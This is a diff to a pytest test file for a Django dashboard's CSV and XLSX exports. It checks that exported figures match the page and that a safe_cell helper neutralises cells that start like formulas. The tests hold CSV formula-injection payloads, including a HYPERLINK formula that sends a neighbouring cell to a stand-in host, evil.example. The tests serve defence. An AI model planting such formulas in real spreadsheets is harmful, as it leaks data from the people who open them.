@@ -1,7 +1,9 @@
 """Every table exports to CSV and XLSX with the figures of its page, in the user's language."""
 
 import csv
+import datetime as dt
 import io
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -10,6 +12,8 @@ from django.urls import reverse
 
 from cases.dashboards.queries import Dashboard
 from tests.dashboards.conftest import FY, number, page_figures
+from tests.factories import CentreFactory, RegistrationFactory
+from volunteer_centre.spreadsheets import safe_cell
 
 
 def read_export(response, fmt) -> list[list]:
@@ -24,26 +28,62 @@ def as_number(value):
     return number(value) if isinstance(value, str) else value
 
 
+def unit_urls(level, code, table, fmt):
+    if level == "nation":
+        return reverse("dashboards:nation"), reverse("dashboards:nation-export", args=[table, fmt])
+    return (
+        reverse("dashboards:unit", args=[level, code]),
+        reverse("dashboards:unit-export", args=[level, code, table, fmt]),
+    )
+
+
+def assert_export_equals_page(client, level, code, table, fmt, query) -> list[list]:
+    page_url, export_url = unit_urls(level, code, table, fmt)
+    page = client.get(page_url, query)
+    rows = page_figures(page.content.decode())[table]
+    response = client.get(export_url, query)
+    assert response.status_code == 200
+    name = "-".join(filter(None, [table, level, code.lower(), f"fy{FY}"]))
+    assert f"{name}.{fmt}" in response["Content-Disposition"]
+    header, *body = read_export(response, fmt)
+    page_columns = [c for c in rows["total"] if c != "_label"]
+    assert len(header) == len(page_columns) + 1
+    # Row by row in the page's order (two centres of a district may share a name).
+    assert len(body) == len(rows)
+    for (label, *values), cells in zip(body, rows.values(), strict=True):
+        assert label == cells["_label"]
+        assert [as_number(v) for v in values] == [number(cells[c]) for c in page_columns], label
+    return body
+
+
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 @pytest.mark.parametrize("table", Dashboard.TABLES)
 def test_export_equals_its_page(client, world, superuser, table, fmt):
     client.force_login(superuser)
-    query = {"fy": FY}
-    page = client.get(reverse("dashboards:unit", args=["province", "10"]), query)
-    rows = page_figures(page.content.decode())[table]
-    response = client.get(
-        reverse("dashboards:unit-export", args=["province", "10", table, fmt]), query
-    )
-    assert response.status_code == 200
-    assert f"{table}-province-10-fy{FY}.{fmt}" in response["Content-Disposition"]
-    header, *body = read_export(response, fmt)
-    page_columns = [c for c in rows["total"] if c != "_label"]
-    assert len(header) == len(page_columns) + 1
-    by_label = {cells["_label"]: cells for key, cells in rows.items()}
-    assert len(body) == len(rows) == 52  # 50 districts, the province's own centres, total
-    for label, *values in body:
-        cells = by_label[label]
-        assert [as_number(v) for v in values] == [number(cells[c]) for c in page_columns], label
+    body = assert_export_equals_page(client, "province", "10", table, fmt, {"fy": FY})
+    assert len(body) == 52  # 50 districts, the province's own centres, total
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize(
+    ("level", "code", "query", "rows"),
+    [
+        ("nation", "", {}, 7),  # five regions, the national centre, total
+        ("district", "1005", {}, 3),  # Bang Khen's two centres, total
+        ("province", "10", {"programme": "apm"}, 52),
+        ("nation", "", {"programme": "foreign"}, 7),
+        ("province", "10", {"problem": "poverty"}, 52),
+        ("district", "1005", {"problem": "family_violence", "programme": "aps"}, 3),
+    ],
+)
+@pytest.mark.parametrize("table", Dashboard.TABLES)
+def test_export_equals_its_page_at_every_level_and_filter(
+    client, world, superuser, table, fmt, level, code, query, rows
+):
+    client.force_login(superuser)
+    body = assert_export_equals_page(client, level, code, table, fmt, {"fy": FY, **query})
+    assert len(body) == rows
+    assert any(any(v not in (0, "0") for v in row[1:]) for row in body), "some figure is non-zero"
 
 
 def test_export_headers_follow_the_language(client, world, superuser):
@@ -72,3 +112,36 @@ def test_page_in_english_names_places_and_columns_in_english(client, world, supe
     html = client.get(reverse("dashboards:unit", args=["province", "10"])).content.decode()
     assert "Bang Khen" in html and "SDHS (อพม.)" in html and "Whole country" in html
     assert "เขตบางเขน" not in html
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.example","y")'],
+)
+def test_safe_cell_defuses_text_that_starts_like_a_formula(value):
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value", [None, 0, -3, 12.5, Decimal("-1250.50"), dt.date(2019, 3, 11), "เขตบางเขน", "a=1", ""]
+)
+def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value):
+    assert safe_cell(value) is value
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_centre_name_that_starts_like_a_formula_is_exported_as_text(client, superuser, fmt):
+    name = '=HYPERLINK("http://evil.example/?"&B2,"เปิด")'
+    centre = CentreFactory(district_id="1005", name_th=name)
+    RegistrationFactory(centre=centre)
+    client.force_login(superuser)
+    response = client.get(
+        reverse("dashboards:unit-export", args=["district", "1005", "volunteers", fmt])
+    )
+    rows = read_export(response, fmt)
+    assert rows[1][0] == "'" + name
+    assert isinstance(as_number(rows[1][1]), int)  # the figures stay numbers
+    if fmt == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        assert sheet["A2"].data_type == "s"  # a string, not a formula
+        assert sheet["B2"].data_type == "n"
